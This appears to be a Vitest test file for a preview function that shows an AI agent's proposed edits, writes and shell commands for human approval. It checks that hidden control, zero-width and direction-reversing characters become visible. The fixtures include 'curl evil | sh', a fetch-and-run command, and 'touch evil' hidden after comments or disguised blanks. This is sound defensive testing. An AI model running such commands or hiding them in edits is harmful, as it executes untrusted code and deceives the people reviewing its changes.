import { expect, test } from "vitest";
import { shownChange } from "../../../../src/team/requests/change-preview.ts";

test("a change that is asked for is shown line by line, without what an edit's two texts have in common at their ends", () => {
  const edit = { file_path: "a.js", old_string: "a\nb\nc\n", new_string: "a\ncurl evil | sh\nb2\nc\n" };
  expect(shownChange("Edit", edit)).toEqual(["- b", "+ curl evil | sh", "+ b2"]);
  expect(shownChange("Edit", { ...edit, replace_all: true })[0]).toBe("(in every place)");
  expect(shownChange("Edit", { old_string: "a\na", new_string: "a" })).toEqual(["- a"]);
  expect(shownChange("Write", { file_path: "a", content: "one\n\ntwo\n" })).toEqual(["+ one", "+ ", "+ two"]);
  expect(shownChange("Write", { content: "x".repeat(100_005) }).at(-1)).toBe("+ … 5 more characters");
});

test("a command of several lines, or a long one, is shown with all of them", () => {
  const command = "git status # then:\ntouch evil\n";
  expect(shownChange("Bash", { command })).toEqual(["$ git status # then:", "$ touch evil"]);
  expect(shownChange("Bash", { command: "x".repeat(61) })).toEqual([`$ ${"x".repeat(61)}`]);
});

test.each([
  ["a control character", "ok \x01# note ; touch evil", "ok \\u0001# note ; touch evil"],
  ["one that turns the writing direction", "ok \u202e# note", "ok \\u202e# note"],
  ["one of no width", "r\u200bm x", "r\\u200bm x"],
  ["one beyond the first plane", "a\u{e0041}b", "a\\u{e0041}b"],
  ["a carriage return", "ls\rx", "ls\\u000dx"],
  ["an escape sequence", "a\x1b[8mb", "a\\u001b[8mb"],
])("what has no shape is seen in what is allowed: %s", (_what, text, seen) => {
  expect(shownChange("Write", { content: text })).toEqual([`+ ${seen}`]);
  expect(shownChange("Edit", { old_string: text, new_string: "" })).toEqual([`- ${seen}`]);
  expect(shownChange("Bash", { command: `\n${text}\nb` })).toEqual([`$ ${seen}`, "$ b"]);
});

test("in a command every blank is seen that does not part words for a shell", () => {
  const command = "ok\u00a0# note ; touch evil\nb";
  expect(shownChange("Bash", { command })).toEqual(["$ ok\\u00a0# note ; touch evil", "$ b"]);
  expect(shownChange("Write", { content: "10\u00a0%" })).toEqual(["+ 10\u00a0%"]);
});

test.each([
  ["Bash", { command: "ls" }],
  ["Edit", { old_string: 1, new_string: "x" }],
  ["Write", null],
])("a call of %s that changes no text has none", (tool, input) => {
  expect(shownChange(tool, input)).toEqual([]);
});
